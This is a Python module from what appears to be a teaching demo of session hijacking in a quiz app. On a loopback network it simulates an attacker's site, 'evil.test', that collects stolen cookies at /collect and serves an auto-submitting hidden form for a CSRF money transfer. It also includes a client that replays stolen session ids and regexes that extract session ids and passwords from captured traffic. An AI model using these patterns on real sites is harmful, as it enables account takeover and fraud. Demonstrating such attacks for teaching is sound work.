"""The attacker: his own site, his own client, and what he has got so far."""

from __future__ import annotations

import re

from aiohttp import web

from quizapp.demos.loopback import Loopback
from quizapp.demos.session_hijacking.answers import text_of
from quizapp.demos.session_hijacking.inputs import ATTACKER, SHOP
from quizapp.demos.session_hijacking.shop import COOKIE, PASSWORD
from quizapp.demos.wire import Exchange

ORDER = f"to={ATTACKER}&amount=100"
"""The transfer that he wants, as a form posts it."""
_CSRF_FIELD = re.compile(r'name="csrf" value="([0-9a-f]+)"')
_ID_LINE = re.compile(rf"(?:Set-)?Cookie: {COOKIE}=([0-9a-f]+)".encode())
_PASSWORD_FIELD = re.compile(rf"password=({re.escape(PASSWORD)})".encode())


class AttackersSite:
    """evil.test: takes what scripts bring along, and has a page with a form that posts itself."""

    def __init__(self) -> None:
        self.brought = ""
        """What last came as ``c``."""
        self.target = f"http://{SHOP}"

    async def __call__(self, request: web.Request) -> web.StreamResponse:
        """Answers one request."""
        if request.path == "/collect":
            self.brought = request.query.get("c", "")
            return web.Response(status=204)
        fields = "".join(
            f'<input type="hidden" name="{name}" value="{value}">'
            for name, _, value in (pair.partition("=") for pair in ORDER.split("&"))
        )
        form = f'<form method="post" action="{self.target}/transfer">{fields}</form>'
        return web.Response(
            text=f"You have won!\n{form}\n<script>document.forms[0].submit()</script>",
            content_type="text/html",
        )


class SecondClient:
    """The attacker's own client, at home: it sends the Cookie header that he wants it to send."""

    def __init__(self, home: Loopback, base: str) -> None:
        self._home, self._base = home, base

    async def get(self, path: str, id: str = "") -> Exchange:
        """Asks for a page, with a session id or without."""
        headers = {"Cookie": f"{COOKIE}={id}"} if id else {}
        return await self._home.request("GET", self._base + path, headers)

    async def order(self, id: str, page: Exchange, password: str) -> Exchange:
        """Asks for the transfer, with all that the account page gave away and that he knows."""
        headers = {
            "Content-Type": "application/x-www-form-urlencoded",
            "Cookie": f"{COOKIE}={id}",
        }
        return await self._home.request(
            "POST", f"{self._base}/transfer", headers, order(page, password).encode()
        )


def order(page: Exchange, password: str = "") -> str:
    """The transfer, with the CSRF token of an account page that could be read."""
    token = _CSRF_FIELD.search(text_of(page))
    fields = [ORDER, f"csrf={token[1]}" if token else "", f"password={password}" * bool(password)]
    return "&".join(filter(None, fields))


def id_in(recorded: bytes) -> str:
    """The newest session id that can be read in what was recorded; empty if there is none."""
    ids = _ID_LINE.findall(recorded)
    return ids[-1].decode() if ids else ""


def password_in(recorded: bytes) -> str:
    """The password that can be read in what was recorded; empty if there is none."""
    found = _PASSWORD_FIELD.search(recorded)
    return found[1].decode() if found else ""
